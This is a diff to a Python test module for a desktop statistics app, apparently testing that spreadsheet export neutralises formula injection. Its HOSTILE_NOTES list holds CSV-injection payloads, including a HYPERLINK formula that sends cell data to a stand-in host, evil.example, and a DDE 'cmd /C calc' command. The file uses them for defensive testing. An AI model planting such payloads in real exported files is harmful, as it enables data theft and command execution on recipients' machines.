@@ -10,7 +10,6 @@ import io
 import shutil
 import uuid
 import zipfile
-from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -20,9 +19,10 @@ from barometer_desktop.domain.periods import Period
 from barometer_desktop.domain.spreadsheet_text import FORMULA_STARTS, neutralise, restore
 from barometer_desktop.importing.export import export_values
 from barometer_desktop.importing.service import import_file
-from barometer_desktop.storage import catalog, observation_edits
+from barometer_desktop.storage import catalog
 from barometer_desktop.storage.database import open_database
 from barometer_desktop.storage.observations import ObservationInput
+from tests import stored_values
 
 # (Stored notes are stripped, so a leading tab only shows in the neutralise tests.)
 HOSTILE_NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -32,7 +32,7 @@ HOSTILE_NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+cmd|' /C c
 def _save_notes(db, notes: list[str]) -> None:
     indicator = next(i.id for i in catalog.indicators(db) if i.code == "1.2")
     area = next(a.id for a in catalog.areas(db) if a.name == "København")
-    observation_edits.save(db, [
+    stored_values.save(db, [
         ObservationInput(indicator, area, Period.year_of(2000 + i), 50.0 + i, note=note, note_is_public=i % 2 == 0)
         for i, note in enumerate(notes)
     ])
